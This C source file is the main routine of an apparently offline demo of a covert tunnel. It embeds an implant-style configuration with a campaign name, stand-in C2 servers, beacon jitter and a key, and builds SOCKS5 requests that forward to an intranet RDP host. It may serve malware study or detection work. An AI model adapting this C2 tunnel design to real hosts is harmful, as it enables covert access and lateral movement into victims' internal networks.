/* Tunnel: configuration, the offline demo clients, main. */
#include <stdio.h>
#include <string.h>

#include "tunnel.h"

static const char tunnel_config[] =
    "campaign=orchid-9\nc2=relay.example.net:443;198.51.100.61:8080\ninterval=30\njitter=10\n"
    "key=4f72636869642d392d74756e6e656c21\nflags=0x11\n";

int main(int argc, char **argv)
{
    static struct tunnel t;
    struct fwd_rule rule;
    uint8_t blob[512];

    size_t bl = beta_cfg_encode(blob, sizeof(blob), tunnel_config);
    if (beta_cfg_load(&t.cfg, blob, bl) < 0)
        return 1;
    if (parse_forward_rule(argc > 1 ? argv[1] : "1080:intranet.example.com:3389", &rule) < 0)
        return 2;
    static const uint8_t greet[] = {5, 2, 0, 2};
    static const uint8_t req4[] = {5, 1, 0, 1, 10, 0, 0, 5, 0x0d, 0x3d};
    uint8_t reqd[80] = {5, 1, 0, 3};
    size_t hl = strlen(rule.host);
    reqd[4] = (uint8_t)hl;
    memcpy(reqd + 5, rule.host, hl);
    reqd[5 + hl] = (uint8_t)(rule.rport >> 8);
    reqd[6 + hl] = (uint8_t)rule.rport;
    handle_client(&t, greet, sizeof(greet), req4, sizeof(req4), "GET / HTTP/1.0\r\n\r\n");
    handle_client(&t, greet, sizeof(greet), reqd, 7 + hl, "RDP demo bytes");
    const struct beta_c2 *c2 = beta_cfg_next_c2(&t.cfg, 0);
    printf("beta tunnel (offline demo): port %u -> %s:%u via %s:%u (not contacted), %zu bytes framed\n",
           rule.lport, rule.host, rule.rport, c2->host, c2->port, t.wn);
    c2_view(&t);
    return t.packets ? 0 : 1;
}
